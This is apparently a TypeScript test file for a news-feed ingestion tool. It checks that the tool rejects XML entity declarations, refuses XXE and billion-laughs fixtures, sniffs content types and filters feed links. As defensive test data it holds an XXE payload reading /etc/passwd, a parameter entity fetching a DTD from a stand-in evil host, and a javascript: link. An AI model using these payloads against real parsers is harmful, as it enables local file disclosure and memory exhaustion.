import { describe, expect, it } from 'vitest';
import { parseFeed } from '../../../tools/ingest/feeds/parse-feed';
import { advertisedFeeds, sniffText } from '../../../tools/ingest/feeds/sniff';
import { assertSafeWellFormedXml, declaresEntities } from '../../../tools/ingest/feeds/xml-safety';
import { feedErrorOf, fixtureBytes, utf8 } from './fixtures';

const ITEM = '<item><title>T</title><link>https://news.example/a</link><description>Body</description></item>';

describe('declaresEntities', () => {
  it('finds entity declarations, general and parameter, in any case', () => {
    expect(declaresEntities('<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss/>')).toBe(true);
    expect(declaresEntities('<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><rss/>')).toBe(true);
    expect(declaresEntities('<!doctype x [<!entity x "y">]><rss/>')).toBe(true);
  });

  it('ignores "<!ENTITY" quoted in CDATA or comments, and DOCTYPEs without entities', () => {
    expect(declaresEntities('<rss><description><![CDATA[<pre><!ENTITY x "y"></pre>]]></description></rss>')).toBe(
      false,
    );
    expect(declaresEntities('<!-- <!ENTITY x "y"> --><rss/>')).toBe(false);
    expect(declaresEntities('<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "x.dtd"><rss/>')).toBe(
      false,
    );
  });

  it('stays linear on a file full of unclosed sections', () => {
    expect(declaresEntities('<![CDATA['.repeat(200_000))).toBe(false);
    expect(declaresEntities('<!'.repeat(200_000))).toBe(false);
  });
});

describe('assertSafeWellFormedXml', () => {
  it('forgives whitespace before the XML declaration and counts its lines in errors', () => {
    expect(assertSafeWellFormedXml('\n\n<?xml version="1.0"?><rss/>')).toBe('<?xml version="1.0"?><rss/>');
    expect(
      feedErrorOf(() => assertSafeWellFormedXml('\n\n<?xml version="1.0"?>\n<rss>\n<a></b></rss>')).message,
    ).toMatch(/^the feed is not well-formed XML \(line 5, column \d+\): /);
  });

  it('refuses a bare ampersand with its position', () => {
    expect(feedErrorOf(() => assertSafeWellFormedXml('<rss><title>AT&T</title></rss>')).message).toBe(
      "the feed is not well-formed XML (line 1, column 15): char '&' is not expected.",
    );
  });
});

describe('hostile fixtures', () => {
  it('refuses xxe.xml before any parser sees it, quickly and with a short message', () => {
    const error = feedErrorOf(() => parseFeed(fixtureBytes('xxe.xml'), { url: 'https://evil.news.example/rss' }));
    expect(error.message).toBe(
      'the feed declares entities in a DOCTYPE; feeds never need them, and reading them could expose local files or exhaust memory, so it was not read.',
    );
    expect(`${error.message}${error.stack}`).not.toContain('root:');
  });

  it('refuses billion-laughs.xml without building anything large', () => {
    const before = process.memoryUsage().heapUsed;
    const error = feedErrorOf(() =>
      parseFeed(fixtureBytes('billion-laughs.xml'), { url: 'https://lol.news.example/rss' }),
    );
    expect(error.message).toContain('declares entities in a DOCTYPE');
    expect(error.message.length).toBeLessThan(200);
    // A billion laughs expanded would be about 3 GB; nothing near even 50 MB may appear.
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(50 * 1024 * 1024);
  });

  it('reads an RSS 0.91 feed whose DOCTYPE only names an external DTD, without fetching it, and decodes its HTML entities', () => {
    const xml = `<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old&nbsp;News</title><link>https://old.news.example/</link><description>d</description>${ITEM}</channel></rss>`;
    const feed = parseFeed(utf8(xml), { url: 'https://old.news.example/rss' });
    expect(feed.title).toBe('Old News');
    expect(feed.items).toHaveLength(1);
  });
});

describe('sniffText', () => {
  it('tells feeds, pages, JSON and the rest apart by their first element', () => {
    expect(sniffText('<?xml version="1.0"?>\n<!-- hi --><rss version="2.0"/>')).toEqual({ kind: 'xml', root: 'rss' });
    expect(sniffText('<?xml version="1.0"?><rdf:RDF xmlns:rdf="x"/>')).toEqual({ kind: 'xml', root: 'rdf:RDF' });
    expect(sniffText('<!DOCTYPE feed [ <!ELEMENT feed ANY> ]><feed/>')).toEqual({ kind: 'xml', root: 'feed' });
    expect(sniffText('\uFEFF  <!DOCTYPE html><html><body/></html>')).toEqual({ kind: 'html' });
    expect(sniffText('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>')).toEqual({ kind: 'html' });
    expect(sniffText('  {"version": 1}')).toEqual({ kind: 'json' });
    expect(sniffText('\n\t ')).toEqual({ kind: 'empty' });
    expect(sniffText('Not found')).toEqual({ kind: 'unknown' });
  });
});

describe('advertisedFeeds', () => {
  it('lists RSS, Atom and JSON Feed alternates, absolute and http(s) only', () => {
    const html = `<head>
      <link rel="alternate" type="application/rss+xml" href="/rss">
      <link rel="Alternate" type="application/feed+json" href="https://news.example/feed.json">
      <link rel="alternate" type="application/json" href="/wp-json/wp/v2/pages/2">
      <link rel="alternate" type="application/atom+xml" href="javascript:alert(1)">
      <link rel="alternate" hreflang="el" href="/el/">
      <link rel="stylesheet" type="application/rss+xml" href="/not-a-feed">
    </head>`;
    expect(advertisedFeeds(html, 'https://news.example/world/')).toEqual([
      'https://news.example/rss',
      'https://news.example/feed.json',
    ]);
  });
});
